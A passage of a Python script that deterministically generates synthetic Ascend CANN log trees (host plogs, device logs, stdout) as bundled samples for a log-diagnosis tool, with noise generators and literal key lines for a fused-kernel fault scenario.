"""Generate the bundled sample log trees under ``samples/``.

Each sample is a log tree a user would collect from one Ascend job, with the job's stdout, host
plogs (debug and run), device application logs and a ``README.md`` that states what ``plogscan
diagnose`` must report. The trees are what this script writes: it uses the standard library only,
every random choice comes from a seeded ``random.Random``, and re-running it reproduces every file
byte for byte. The key lines of each scenario are literal strings below; the rest is noise in the
shapes CANN really writes (formats.md §1.2), including a few of the parser anomalies of §1.5.

Usage::

    python samples/_generate.py            # (re)write all sample trees
    python samples/_generate.py --check    # regenerate into a temp dir, compare, print line stats
"""

from __future__ import annotations

import argparse
import filecmp
import random
import re
import shutil
import sys
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path

SAMPLES_DIR = Path(__file__).resolve().parent

# formats.md §1.1: the CANN plog header, as recommended for the parser.
HEADER_RE = re.compile(
    r"^\[(?P<level>[A-Z]+|\d+)\]\s?(?P<module>[A-Za-z0-9_]+)\((?P<pid>-?\d+),(?P<pname>[^)]*)\):\s?"
    r"(?P<ts>\d{4}-\d{2}-\d{2}[- ]\d{2}:\d{2}:\d{2}\.\d{3}\.\d{3})\s?(?P<body>.*)$"
)

# The scenario's literal key texts (issue: "The case that started this project").
REUSE_TEXT = "Already have context, skip create, ctxSize is {n}"
FUSION_FAULT_TEXT = (
    "The error from device(chipId={chip}, dieId=0), serial number is {serial}, exception occurred "
    "during fusion kernel task execution, streamId={stream}, taskId={task}, subtasksSubType=20, "
    "sqeLength=4, cqeStatus=262144."
)
CCU_PRINT_TEXT = "ccu task print, coreNum=1, streamId={stream}, taskId={task}."
AICORE_TEXT = (
    "there is an aicore error exception, core id is {core}, error code = 0, l1 error info: {l1}, "
    "mte error info: {mte}, errcode:(0) errorstr: timeout or trap error. subErrType: 0x4."
)
STDOUT_SYNC_ERROR = (
    "RuntimeError: npuSynchronizeDevice: AclrtSynchronizeDeviceWithTimeout, error code is 507916"
)
STDOUT_SYNC_ERROR_LONG = (
    "RuntimeError: npuSynchronizeDevice:build/CMakeFiles/torch_npu.dir/compiler_depend.ts:471 "
    "NPU function error: AclrtSynchronizeDeviceWithTimeout, error code is 507916"
)
MC2_OP = "aclnnAlltoAllvQuantGroupedMatMul"
MC2_KERNEL = "AlltoAllvQuantGroupedMatMul_5c1e07a94b3d28f6_mix_aic_1100"


# --------------------------------------------------------------------------- time stamps


def log_ts(t: datetime) -> str:
    """``YYYY-MM-DD-hh:mm:ss.mmm.uuu`` as written in plog headers."""
    return f"{t:%Y-%m-%d-%H:%M:%S}.{t.microsecond // 1000:03d}.{t.microsecond % 1000:03d}"


def file_ts(t: datetime) -> str:
    """``YYYYMMDDhhmmssmmm`` (17 digits) as used in plog file names."""
    return f"{t:%Y%m%d%H%M%S}{t.microsecond // 1000:03d}"


def short_ts(t: datetime) -> str:
    """``YYYY-MM-DD-hh:mm:ss`` as torch_npu prints it in ``(PID:…)`` lines."""
    return f"{t:%Y-%m-%d-%H:%M:%S}"


# --------------------------------------------------------------------------- one process


@dataclass
class Line:
    text: str
    mark: str | None = None  # name of a key line, listed in the sample README


@dataclass
class Proc:
    """One host process (one rank): its clock, its ids and the lines of each of its files."""

    rng: random.Random
    t: datetime
    pid: int
    pname: str
    rank: int
    device: int
    devpid: int  # aicpu_scheduler pid on the device
    debug_on: bool
    root: str  # directory of this process' files, relative to the sample root
    debug: list[Line] = field(default_factory=list)
    run: list[Line] = field(default_factory=list)
    dev_debug: list[Line] = field(default_factory=list)
    dev_run: list[Line] = field(default_factory=list)
    stdout: list[Line] = field(default_factory=list)
    task_ids: dict[int, int] = field(default_factory=dict)
    first: dict[str, datetime] = field(default_factory=dict)
    # The generator state at each ``noise`` call, as this process drew its background noise; a
    # paired run replays them (``noise_replay``) so that its noise is this run's.
    noise_states: list[object] = field(default_factory=list)
    noise_replay: list[object] | None = None

    # ---- clock
    def tick(self, lo: int = 3, hi: int = 400) -> None:
        self.t += timedelta(microseconds=self.rng.randint(lo, hi))

    def pause(self, ms_lo: int, ms_hi: int) -> None:
        self.t += timedelta(microseconds=self.rng.randint(ms_lo * 1000, ms_hi * 1000))

    # ---- ids
    @property
    def tid(self) -> int:
        return self.pid

    def worker_tid(self, k: int) -> int:
        return self.pid + 17 + k

    def next_task(self, stream: int) -> int:
        self.task_ids[stream] = self.task_ids.get(stream, 0) + 1
        return self.task_ids[stream]

    def hexaddr(self, base: int = 0x12C0_0000_0000) -> str:
        return hex(base + self.rng.randrange(0, 0x4000_0000, 0x200))

    # ---- writers
    def _header(self, level: str, module: str, pid: int, pname: str, glue: str) -> str:
        return f"[{level}]{glue}{module}({pid},{pname}):{log_ts(self.t)}"

    def emit(
        self,
        dest: str,
        level: str,
        module: str,
        body: str,
        *,
        mark: str | None = None,
        cont: tuple[str, ...] = (),
        level_glue: str = " ",
        body_glue: str = " ",
    ) -> None:
        """Append one record. ``dest`` is ``debug``, ``run``, ``dev_debug`` or ``dev_run``.

        Routing follows formats.md §1.3: debug files hold every level when DEBUG logging is on and
        ERROR only by default; run files hold what the code logs as run records (INFO/EVENT).
        """
        if dest in ("debug", "dev_debug") and not self.debug_on and level != "ERROR":
            return
        dev = dest.startswith("dev_")
        pid, pname = (self.devpid, "aicpu_scheduler") if dev else (self.pid, self.pname)
        text = self._header(level, module, pid, pname, level_glue) + body_glue + body
        target: list[Line] = getattr(self, dest)
        if not target:
            self.first[dest] = self.t
        target.append(Line(text, mark))
        for c in cont:
            target.append(Line(c))

    def out(self, text: str, mark: str | None = None) -> None:
        self.stdout.append(Line(text, mark))

    # ---- body shapes per module (formats.md §1.2)
    def hccl(
        self,
        dest: str,
        level: str,
        src: str,
        msg: str,
        *,
        tid: int | None = None,
        mark: str | None = None,
        **kw: object,
    ) -> None:
        self.emit(dest, level, "HCCL", f"[{src}] [{tid or self.tid}]{msg}", mark=mark, **kw)

    def rt(
        self,
        dest: str,
        level: str,
        src: str,
        func: str,
        msg: str,
        *,
        tid: int | None = None,
        mark: str | None = None,
    ) -> None:
        if level == "ERROR":  # RecordErrorLog: no spaces, stage tags
            body = f"[{src}]{tid or self.tid} {func}:[EXEC][EXEC]{msg}"
        else:
            body = f"[{src}] {tid or self.tid} {func}: {msg}"
        self.emit(dest, level, "RUNTIME", body, mark=mark)

    def acl(
        self,
        module: str,
        dest: str,
        level: str,
        src: str,
        func: str,
        msg: str,
        *,
        mark: str | None = None,
        cont: tuple[str, ...] = (),
    ) -> None:
        self.emit(dest, level, module, f"[{src}]{self.tid} {func}:{msg}", mark=mark, cont=cont)

    def tdt(self, dest: str, level: str, src: str, func: str, msg: str) -> None:
        self.emit(dest, level, "TDT", f"[{src}][{func}][tid:{self.tid}] {msg}")

    def idedd(self, dest: str, level: str, src: str, msg: str, tid: int | None = None) -> None:
        self.emit(dest, level, "IDEDD", f"[{src}][tid:{tid or self.tid}] {msg}")

    def atrace(self, dest: str, level: str, src: str, msg: str) -> None:
        self.emit(dest, level, "ATRACE", f"[{src}](tid:{self.tid}) {msg}")

    def prof(self, dest: str, level: str, src: str, msg: str, tid: int | None = None) -> None:
        self.emit(dest, level, "PROFILING", f"[{src}] (tid:{tid or self.tid}) {msg}")

    def tune(self, dest: str, level: str, src: str, msg: str) -> None:
        self.emit(dest, level, "TUNE", f'[{src}][CANNKB][Tid:{self.tid}]"{msg}"')

    def drv(
        self, dest: str, level: str, src: str, sub: str, func: str, msg: str, tid: int | None = None
    ) -> None:
        self.emit(
            dest,
            level,
            "DRV",
            f"[{src}][ascend][curpid:{self.pid},{tid or self.tid}][drv][{sub}][{func}]{msg}",
        )

    def app(self, dest: str, level: str, src: str, msg: str) -> None:
        self.emit(dest, level, "APP", f'[log_inner.cpp:76]{self.tid} {src}: "[PTA]:"{msg}""')

    def ccecpu(self, dest: str, level: str, src: str, func: str, msg: str) -> None:
        self.emit(dest, level, "CCECPU", f"[{src}][{func}][tid:{self.devpid + 3}] {msg}")


# --------------------------------------------------------------------------- noise


OPS = [
    ("aclnnMatmul", "MatMulV3_{h}_high_performance_{k}", 24),
    ("aclnnAdd", "Add_{h}_mix_aiv_{k}", 48),
    ("aclnnCast", "Cast_{h}_high_performance_{k}", 40),
    ("aclnnMul", "Mul_{h}_mix_aiv_{k}", 48),
    ("aclnnRmsNorm", "RmsNorm_{h}_high_performance_{k}", 20),
    ("aclnnSoftmax", "SoftmaxV2_{h}_high_performance_{k}", 32),
    ("aclnnInplaceCopy", "ViewCopy_{h}_mix_aiv_{k}", 16),
    ("aclnnSwiGlu", "SwiGlu_{h}_high_performance_{k}", 40),
    ("aclnnDynamicQuant", "DynamicQuant_{h}_high_performance_{k}", 40),
    ("aclnnArgMax", "ArgMaxV2_{h}_high_performance_{k}", 8),
]
DTYPES = ["float16", "bfloat16", "float32", "int8", "int32"]


def _kernel(p: Proc, tmpl: str) -> str:
    return tmpl.format(h=f"{p.rng.getrandbits(64):016x}", k=p.rng.choice([10001, 1100, 20, 3, 110]))


def noise_compute(p: Proc) -> None:
    """One eager aclnn operator as DEBUG logging shows it: workspace, launch, task submit."""
    r = p.rng
    op, ktmpl, bd = r.choice(OPS)
    stream = r.choice([2, 2, 2, 12])
    task = p.next_task(stream)
    ws = r.choice([0, 0, 512, 4096, 32768, 1048576])
    p.emit(
        "debug",
        "DEBUG",
        "OP",
        f"[{op[5:].lower()}.cpp:{r.choice([61, 88, 143])}]{p.tid} "
        f"{op}GetWorkspaceSize: entry, inputs dtype [{r.choice(DTYPES)}], "
        f"shape [{r.choice([1, 4, 8, 16])},{r.choice([128, 256, 1024, 4096])}]",
    )
    p.tick(5, 60)
    p.emit(
        "debug",
        "DEBUG",
        "OP",
        f"[op_api_common.cpp:412]{p.tid} {op}GetWorkspaceSize: "
        f"workspace size [{ws}], executor reused [{r.choice(['yes', 'no'])}]",
    )
    p.tick(5, 60)
    if ws:
        p.acl(
            "ASCENDCL",
            "debug",
            "DEBUG",
            "memory.cpp:93",
            "aclrtMallocImpl",
            f" malloc workspace size={ws}, policy=0",
        )
        p.tick(3, 30)
        p.rt(
            "debug",
            "DEBUG",
            "npu_driver.cc:1907",
            "DevMemAlloc",
            f"device_id={p.device}, size={ws}, type=2, ptr={p.hexaddr()}",
        )
        p.tick(3, 30)
    p.rt(
        "debug",
        "DEBUG",
        "kernel_launch.cc:614",
        "LaunchKernel",
        f"stream_id={stream}, task_id={task}, kernel_name={_kernel(p, ktmpl)}, block_dim={bd}, "
        f"args_size={r.choice([96, 128, 224, 280])}, schedule_mode=0",
    )
    p.tick(3, 40)
    p.rt(
        "debug",
        "DEBUG",
        "stream.cc:2250",
        "SubmitTask",
        f"stream_id={stream}, task_id={task}, task_type=0(kernel), sq_tail={task % 2048}",
    )
    p.tick(10, 300)


def noise_memory(p: Proc) -> None:
    r = p.rng
    size = r.choice([2097152, 4194304, 20971520, 67108864, 134217728])
    p.app(
        "debug",
        "DEBUG",
        "NPUCachingAllocator.cpp:malloc:1288",
        f"pta_memory alloc block size={size}, stream={r.choice([2, 12])}, "
        f"segment={r.choice(['large', 'small'])}",
    )
    p.tick(3, 40)
    p.drv(
        "debug",
        "DEBUG",
        "devmm_svm_mem.c:812",
        "devmm",
        "devmm_alloc_managed",
        f"Alloc detail. (devid={p.device}; size={size}; va={p.hexaddr()}; "
        f"flag=0x{r.choice([0x4000, 0x6000]):x})",
    )
    p.tick(3, 80)


def noise_profiling(p: Proc) -> None:
    r = p.rng
    p.prof(
        "debug",
        "DEBUG",
        r.choice(["prof_callback.cpp:205", "msprof_reporter.cpp:96"]),
        f"Reporter [{r.choice(['task_track', 'api_event', 'hash_data'])}] flush "
        f"{r.randint(0, 40)} records, buffer used {r.randint(0, 99)}%",
        tid=p.worker_tid(2),
    )
    p.tick(5, 90)


def noise_runtime_misc(p: Proc) -> None:
    r = p.rng
    choice = r.randrange(5)
    if choice == 0:
        p.rt(
            "debug",
            "DEBUG",
            "event.cc:318",
            "EventRecord",
            f"event_id={r.randint(0, 63)}, stream_id={r.choice([2, 12])}, device_id={p.device}",
        )
    elif choice == 1:
        p.rt(
            "debug",
            "DEBUG",
            "task_res_manager.cc:277",
            "RecycleTaskRes",
            f"stream_id={r.choice([2, 12])}, head={r.randint(0, 2047)}, "
            f"tail={r.randint(0, 2047)}, recycled={r.randint(1, 16)}",
            tid=p.worker_tid(1),
        )
    elif choice == 2:
        p.rt(
            "debug",
            "INFO",
            "stream.cc:1410",
            "Synchronize",
            f"stream_id={r.choice([2, 12])} synchronize begin, timeout=-1",
        )
    elif choice == 3:
        p.emit(
            "debug",
            "DEBUG",
            "DRV",
            f"[ascend][curpid: {p.pid}, {p.worker_tid(1)}][drv][tsdrv]"
            f"[tsdrv_cq_report_poll {r.choice([311, 347])}]"
            f"Cq report polled. (devid={p.device}; cqid={r.randint(0, 7)}; cnt={r.randint(1, 9)})",
        )
    else:
        p.acl(
            "ASCENDCL",
            "debug",
            "DEBUG",
            "stream.cpp:211",
            "aclrtSynchronizeStreamImpl",
            f" start to execute aclrtSynchronizeStream, stream is 0x{r.getrandbits(40):x}",
        )
    p.tick(5, 200)


def noise_ge(p: Proc) -> None:
    r = p.rng
    comp = r.choice(
        [
            "AIcoreEngine",
            "VectorEngine",
            "DNN_VM_AICPU",
            "DNN_HCCL",
            "DNN_VM_RTS",
            "DSAEngine",
            "DNN_VM_GE_LOCAL",
        ]
    )
    n = r.randrange(4)
    if n == 0:
        p.acl(
            "GE",
            "debug",
            "DEBUG",
            "dnnengine_manager.cc:214",
            "GetEngine",
            f" engine [{comp}] found, priority [{r.randint(0, 9)}]",
        )
    elif n == 1:
        p.acl(
            "GE",
            "debug",
            "INFO",
            "plugin_manager.cc:402",
            "LoadSo",
            f"[GEPERFTRACE] open plugin lib{comp.lower()}.so cost [{r.randint(5, 900)}] us",
        )
    elif n == 2:
        p.acl(
            "GE",
            "debug",
            "DEBUG",
            "op_kernel_store.cc:133",
            "RegisterOpInfo",
            f" op [{r.choice(OPS)[1].split('_')[0]}] bound to kernel lib [{comp}]",
        )
    else:
        p.acl(
            "FE",
            "debug",
            "DEBUG",
            "fe_op_store_adapter.cc:88",
            "InitOpStore",
            f" load op info json [op_impl/built-in/ai_core/{r.choice(['ascend950', 'kirin'])}"
            f"/config/aic-ops-info-{r.randint(1, 40)}.json], op count [{r.randint(8, 120)}]",
        )
    p.tick(5, 400)


def noise_device(p: Proc) -> None:
    """Device-side aicpu_scheduler chatter, in the device app log of this host process."""
    r = p.rng
    n = r.randrange(3)
    if n == 0:
        p.ccecpu(
            "dev_debug",
            "DEBUG",
            "aicpusd_event_process.cpp:402",
            "ProcessEvent",
            f"Receive event, eventId[{r.choice([1, 7, 9])}], subEventId[{r.randint(0, 3)}], "
            f"streamId[{r.choice([2, 12])}]",
        )
    elif n == 1:
        p.ccecpu(
            "dev_debug",
            "INFO",
            "aicpusd_monitor.cpp:155",
            "Monitor",
            f"cpu usage check, core[{r.randint(0, 5)}] busy[{r.randint(0, 40)}]%",
        )
    else:
        p.emit(
            "dev_debug",
            "DEBUG",
            "AICPU",
            f"[aicpu_kernels_load.cc:{r.choice([210, 233])}][LoadKernelSo][tid:{p.devpid + 5}] "
            f"kernel so [libcpu_kernels.so] already loaded, ref[{r.randint(1, 30)}]",
        )
    p.tick(20, 600)


NOISE: list[tuple[Callable[[Proc], None], int]] = [
    (noise_compute, 34),
    (noise_memory, 10),
    (noise_profiling, 8),
    (noise_runtime_misc, 30),
    (noise_ge, 6),
    (noise_device, 9),
]


def noise(p: Proc, n_records: int) -> None:
    """About ``n_records`` noise calls drawn by weight (each call writes one to six lines).

    With ``p.noise_replay`` the k-th call starts from the state the paired run had at its k-th
    call: both runs then write the same background noise, and go on drawing alike, whatever
    their steps drew in between."""
    if p.noise_replay is not None:
        p.rng.setstate(p.noise_replay[len(p.noise_states)])  # type: ignore[arg-type]
    p.noise_states.append(p.rng.getstate())
    funcs = [f for f, _ in NOISE]
    weights = [w for _, w in NOISE]
    for _ in range(n_records):
        p.rng.choices(funcs, weights)[0](p)
        if p.rng.random() < 0.06:  # python-side work between operators
            p.pause(20, 250)


# --------------------------------------------------------------------------- phases


def phase_startup(p: Proc, log_level_env: str) -> None:
    """Process start: trace, TDT log env, driver, runtime, profiling, GE/FE init."""
    r = p.rng
    p.atrace("run", "INFO", "trace_attr.c:176", "trace attr init done, wait time is 0ms.")
    p.pause(3, 12)  # the debug file is created by the first debug record, a little later
    p.atrace("debug", "DEBUG", "trace_rb.c:241", "ringbuffer for [RUNTIME] created, size 4096.")
    p.tick()
    p.pause(800, 1600)  # python imports
    p.tdt(
        "run",
        "INFO",
        "log_env.cpp:88",
        "PrintLogEnv",
        f"get ASCEND_GLOBAL_LOG_LEVEL [{log_level_env}] ASCEND_GLOBAL_EVENT_ENABLE [] "
        f"ASCEND_MODULE_LOG_LEVEL []",
    )
    p.tick()
    p.rt(
        "run",
        "INFO",
        "runtime.cc:5471",
        "GetVisibleDevices",
        "env ASCEND_RT_VISIBLE_DEVICES not set, all devices visible",
    )
    p.tick()
    p.emit(
        "run", "EVENT", "RUNTIME", f"[device.cc:611] {p.tid} Open: device_id={p.device} open begin"
    )
    p.tick(100, 600)
    for i, (sub, func, msg) in enumerate(
        [
            ("devmm", "devmm_init_process", f"Process init. (hostpid={p.pid})"),
            ("devmm", "devmm_open_device", f"Open device. (devid={p.device})"),
            (
                "devmm",
                "devmm_dev_info",
                f"Device info. (devid={p.device}; dvpp_size=17179869184; bar_mem=1; read_only=1)",
            ),
            ("hdc", "hdc_client_init", f"Client init ok. (dev_id={p.device}; service=log)"),
            (
                "devmm",
                "devmm_open_device",
                f"Device opened. (logical_devid={p.device}; "
                f"devid={p.device}; hostpid={p.pid}; devpid={p.devpid})",
            ),
        ]
    ):
        p.drv("debug", "INFO", f"devmm_svm.c:{140 + 23 * i}", sub, func, msg)
        p.tick(20, 300)
    # [file 123] body (formats.md §1.5 / §2): a DRV record whose source position uses a space
    p.emit(
        "debug",
        "DEBUG",
        "DRV",
        f"[devdrv_info.c 1187] [curpid:{p.pid},{p.tid}] chip info "
        f"query done, chip_type=ascend950, die_num=2, devid={p.device}",
    )
    p.tick()
    for i in range(6):
        p.tdt(
            "run",
            "INFO",
            "process_mode_manager.cpp:" + str(390 + 7 * i),
            "OpenProcess",
            [
                "[TsdClient] deviceId[{d}] hdc client init",
                "[TsdClient] send open msg, rankSize[0]",
                "[TsdClient] wait aicpu_scheduler ready",
                "[TsdClient] aicpu_scheduler started",
                "[TsdClient] hccp service started",
                "[TsdClient] open process finish",
            ][i].format(d=p.device),
        )
        p.tick(2000, 40000)
    p.emit(
        "run",
        "EVENT",
        "TDT",
        f"[tsd_client.cpp:402][Open][tid:{p.tid}] [TsdClient] "
        f"deviceId[{p.device}] open success, tsd pid[{p.devpid}]",
    )
    p.tick()
    # device app logs: the aicpu_scheduler start line says which log level the device uses
    lvl = "0" if p.debug_on else "3"
    p.ccecpu(
        "dev_run",
        "INFO",
        "main.cpp:288",
        "main",
        f"Start para. deviceId={p.device}, hostPid={p.pid}, pidSign=, profilingMode=0, "
        f"vfId=0, aicpuSchedMode=0, logLevel={lvl}, ccecpulogLevel={'0' if p.debug_on else '-1'}",
    )
    p.tick()
    p.ccecpu("dev_run", "INFO", "aicpusd_interface.cpp:97", "Init", "aicpu scheduler init finished")
    p.tick()
    for _ in range(10):
        p.ccecpu(
            "dev_debug",
            "DEBUG",
            "aicpusd_drv_manager.cpp:214",
            "InitDrvSchedule",
            f"bind core [{r.randint(0, 5)}] to event group [{r.randint(0, 3)}]",
        )
        p.tick(10, 90)
    for i in range(8):
        p.prof(
            "debug",
            "INFO" if i < 2 else "DEBUG",
            f"prof_manager.cpp:{120 + 9 * i}",
            [
                "profiling platform ver 1.2 loaded",
                "driver api version 0x72412",
                "msprof config empty, profiling off",
                "reporter task_track registered",
                "reporter api_event registered",
                "reporter hash_data registered",
                "reporter ctx_id registered",
                "dynamic profiling disabled",
            ][i],
        )
        p.tick(5, 80)
    p.emit(
        "debug",
        "WARNING",
        "TDT",
        f"[client_manager.cpp:518][CheckPkgVersion][tid:{p.tid}] "
        "[TsdClient] aicpu kernels package version file absent, check skipped",
    )
    p.tick()
    p.idedd(
        "debug",
        "INFO",
        "adx_dump_record.cpp:611",
        "dump record thread start, path [./].",
        tid=p.worker_tid(3),
    )
    p.tick()
    p.tune(
        "debug", "INFO", "cann_kb_pyfunc_mgr.cpp:64", "CannKbPyfuncMgr: init python object, ref 0"
    )
    p.tick(200, 2000)
    # GE/FE initialisation: long and chatty at DEBUG
    p.acl("GE", "run", "INFO", "ge_api.cc:322", "GEInitializeImpl", "GEInitialize start")
    ge_start = p.t
    p.tick()
    # multi-line record: indented continuation lines (formats.md §5, "JSON blobs inside debug plog")
    p.acl(
        "GE",
        "debug",
        "DEBUG",
        "ge_api.cc:358",
        "PrintOptions",
        " initialize options:",
        cont=(
            "    ge.exec.deviceId: " + str(p.device),
            "    ge.graphRunMode: 0",
            "    ge.exec.precision_mode: allow_fp32_to_fp16",
            "    ge.opDebugLevel: 0",
            "    ge.socVersion: Ascend950PR_9599",
        ),
    )
    p.tick()
    for i in range(70):
        noise_ge(p)
        p.pause(5, 40)
        if i % 2:
            libs = [
                "aicore",
                "vector",
                "aicpu_ascend",
                "aicpu_tf",
                "rts",
                "ge_local",
                "hccl",
                "dvpp",
                "dsa",
                "fe",
                "host_cpu",
                "ffts",
            ]
            stages = [
                ("InitOpsKernelInfoStores", 161, "init of ops kernel store"),
                ("InitGraphOptimizers", 257, "init of graph optimizer"),
                ("ClassifyGraphOptimizers", 377, "attributes of graph optimizer"),
            ]
            func, line, what = stages[(i // 2) // len(libs)]
            p.acl(
                "GE",
                "run",
                "INFO",
                f"ops_kernel_manager.cc:{line}",
                func,
                f"[GEPERFTRACE] {what} [lib{libs[(i // 2) % len(libs)]}_engine.so] took "
                f"[{r.randint(3, 20000)}] us",
            )
            p.tick()
    p.acl(
        "FE",
        "debug",
        "WARNING",
        "fe_config_info.cc:507",
        "InitConfig",
        " option [ge.op.compile.dump] unknown to this soc, ignored",
    )
    p.tick()
    p.acl(
        "GE",
        "run",
        "INFO",
        "ge_api.cc:349",
        "GEInitializeImpl",
        f"GEInitialize finished, cost [{int((p.t - ge_start).total_seconds() * 1e6)}] us",
    )
    p.tick()
    p.acl("ASCENDCL", "run", "INFO", "acl.cpp:214", "aclInitImpl", " acl init success")
    p.tick(1000, 5000)


HCCL_ENV = [
    ("externalinput.cc:602", "HCCL_CONNECT_TIMEOUT set by default to [120]s"),
    ("externalinput.cc:655", "HCCL_EXEC_TIMEOUT set by default to [1836]s"),
    ("externalinput.cc:871", "HCCL_IF_BASE_PORT set by default to [60000]"),
    ("externalinput.cc:940", "HCCL_SOCKET_IFNAME set by default to [EmptyString]"),
    ("externalinput.cc:1012", "HCCL_BUFFSIZE set by default to [200]MB"),
    ("externalinput.cc:1290", "HCCL_RDMA_RETRY_CNT set by default to [7]"),
    ("externalinput.cc:1401", "HCCL_DIAGNOSE_ENABLE set by default to [0]"),
    ("externalinput.cc:1433", "HCCL_ENTRY_LOG_ENABLE set by environment to [1]"),
    ("externalinput.cc:1575", "HCCL_OP_EXPANSION_MODE set by default to [CCU], ccuEnable[1]"),
    ("externalinput.cc:1730", "HCCL_OP_RETRY_ENABLE set by default to [L0:0,L1:0,L2:0]"),
]


@dataclass
class Comm:
    ident: str
    host_ip: str
    root_info_addr: str


def phase_hccl_init(p: Proc, comm: Comm) -> None:
    """Communicator init through ProcessGroupHCCL (HcclCommInitRootInfoConfig)."""
    r = p.rng
    if p.rank == 0:
        p.hccl(
            "run",
            "INFO",
            "op_base.cc:318",
            f"Entry-HcclGetRootInfo:rootInfo[{comm.root_info_addr}], deviceLogicId[{p.device}]",
        )
        p.tick(2000, 9000)
        p.hccl(
            "run",
            "INFO",
            "op_base.cc:341",
            f"[HCCL_TRACE]HcclGetRootInfo success, take time [{r.randint(4000, 9000)}]us, "
            f"identifier[{comm.ident}]",
        )
        p.tick()
    for src, msg in HCCL_ENV:
        p.hccl("run", "INFO", src, f"[HCCL_ENV] {msg}")
        p.tick(3, 20)
    # a record with no space after the level (formats.md §1.5)
    p.hccl(
        "debug",
        "INFO",
        "base_config.cc:41",
        '[Init][EnvVarParam]Env config "HCCL_IF_IP" not set, using the default.',
        level_glue="",
    )
    p.tick()
    p.hccl(
        "run",
        "INFO",
        "op_base.cc:420",
        f"Entry-HcclCommInitRootInfoConfig:ranks[2], rank[{p.rank}], rootinfo: host "
        f"ip[{comm.host_ip}] port[60000] nicDeploy[1] identifier[{comm.ident}], "
        f"deviceLogicId[{p.device}], config[hcclBufferSize:200, deterministic:0, "
        f"commName:hccl_world_group]",
        mark="hccl_init",
    )
    p.tick(50, 400)
    p.hccl(
        "run",
        "INFO",
        "topoinfo_detect.cc:301",
        f"[HCCL_TRACE]SetupAgent rankNum[2], rank[{p.rank}], rootInfo identifier[{comm.ident}], "
        f"server[{comm.host_ip}%eth0], logicDevId[{p.device}], phydevId[{p.device}], "
        f"deviceIp[192.168.1.{11 + p.rank}]",
    )
    p.tick()
    steps = [
        ("topoinfo_detect.cc:412", "topo detect agent connected to root, rank[{rk}]"),
        ("topoinfo_exchange_agent.cc:188", "send rank info to root, size[{n}]"),
        ("topoinfo_exchange_agent.cc:231", "recv rank table from root, rankNum[2]"),
        ("hccl_communicator.cc:410", "Init communicator, deviceType[ascend950], rankSize[2]"),
        (
            "ccl_buffer_manager.cc:44",
            "[CreateCCLbuffer] ccl buffer created, ptr[{a}], size[209715200]",
        ),
        ("transport_manager.cc:288", "create transport to remote rank[{peer}], link type[UB]"),
        ("ccu_res_manager.cc:126", "ccu resource pool init, dieId[0], ccuNum[4], insSpace[8192]"),
        ("ccu_res_manager.cc:131", "ccu resource pool init, dieId[1], ccuNum[4], insSpace[8192]"),
        ("pfe_table_manager.cc:97", "pfe routing table allocated, entries[64], rank[{rk}]"),
    ]
    chatter = [
        ("transport_ub.cc:402", "ub jetty [{j}] to rank[{peer}] ready, depth[{n}]"),
        ("notify_pool.cc:177", "alloc notify id[{j}] for rank[{peer}], type[ub]"),
        ("mem_register.cc:95", "register mem [{a}] size[{n}] for remote access"),
        ("hccl_communicator.cc:988", "sub-comm level0 rank[{rk}] of 2, devId[{rk}]"),
        ("topoinfo_parse.cc:233", "rank[{peer}] serverIdx[0] devicePhyId[{peer}] superPod[0]"),
    ]
    for i in range(60):
        src, msg = steps[i] if i < len(steps) else r.choice(chatter)
        lvl = "INFO" if i < len(steps) else "DEBUG"
        p.hccl(
            "debug",
            lvl,
            src,
            msg.format(
                rk=p.rank,
                n=r.randint(600, 900),
                a=p.hexaddr(),
                peer=1 - p.rank,
                j=r.randint(1, 255),
            ),
        )
        p.tick(100, 3000)
        if i % 9 == 4:
            noise_runtime_misc(p)


def phase_hccl_init_done(p: Proc, comm: Comm) -> None:
    """After every rank reached the root: the communicator is usable."""
    r = p.rng
    p.hccl(
        "run",
        "INFO",
        "hccl_comm.cc:133",
        f"hcclCommInitInfo:commId[hccl_world_group], rank[{p.rank}], totalRanks[2], "
        f"serverId[{comm.host_ip}], deviceType[9], logicDevId[{p.device}], "
        f"identifier[{comm.ident}]",
    )
    p.tick()
    p.hccl(
        "run",
        "INFO",
        "op_base.cc:497",
        "[HCCL_TRACE]HcclCommInitRootInfoConfig success, take time "
        f"[{r.randint(900000, 2400000)}]us, rankNum[2], rank[{p.rank}], "
        f"rootInfo identifier[{comm.ident}], server[{comm.host_ip}%eth0], "
        f"logicDevId[{p.device}]",
    )
    p.tick(500, 3000)


def _ccu_create(p: Proc, alg_tag: str, ctx_id: int) -> None:
    """HCCL DEBUG lines of a resource cache miss that programs a fresh CCU context."""
    p.hccl(
        "debug",
        "DEBUG",
        "op_common.cc:1176",
        f"TryReuseResource: no cached resource for algTag[{alg_tag}], create new",
    )
    p.tick(5, 40)
    p.hccl(
        "debug",
        "DEBUG",
        "ccu_context_manager.cc:205",
        f"[CcuCtxMgr] alloc ccu context, ctxId[{ctx_id}], dieId[0], algTag[{alg_tag}]",
    )
    p.tick(20, 200)
    p.hccl(
        "debug",
        "DEBUG",
        "ccu_context_manager.cc:262",
        f"[CcuCtxMgr] load instructions, ctxId[{ctx_id}], insCnt[{p.rng.randint(300, 700)}], "
        f"cclBufOffset[0x{p.rng.randrange(0, 0x400000, 0x1000):x}]",
    )
    p.tick(20, 200)
    p.hccl(
        "debug",
        "DEBUG",
        "pfe_table_manager.cc:148",
        f"pfe routing entries programmed, ctxId[{ctx_id}], entries[{p.rng.randint(4, 16)}]",
    )
    p.tick(5, 60)
    p.hccl(
        "debug",
        "DEBUG",
        "ccu_context_manager.cc:291",
        f"[CcuCtxMgr] create ccu context success, ctxId[{ctx_id}], ctxSize is 1",
    )
    p.tick(5, 60)


def phase_eager_alltoall(p: Proc, comm: Comm, reuse: bool, ctx_id: int) -> None:
    """``torch.distributed.all_to_all_single`` through ProcessGroupHCCL onto the CCU."""
    r = p.rng
    tag = f"AlltoAllV_{comm.ident}"
    p.app(
        "debug",
        "DEBUG",
        "ProcessGroupHCCL.cpp:alltoall_base:4410",
        "alltoall_base start, split sizes given, seq 1",
    )
    p.tick()
    p.hccl(
        "run",
        "INFO",
        "hccl_opbase_atrace_info.cc:61",
        f"Entry-HcclAlltoAllV: tag[{tag}], sendBuf[{p.hexaddr()}], "
        f"sendCounts[{p.hexaddr(0x7F00_0000_0000)}], sdispls[{p.hexaddr(0x7F00_0000_0000)}], "
        f"sendType[bfloat16], recvBuf[{p.hexaddr()}], recvCounts[{p.hexaddr(0x7F00_0000_0000)}], "
        f"rdispls[{p.hexaddr(0x7F00_0000_0000)}], recvType[bfloat16], streamId[12], "
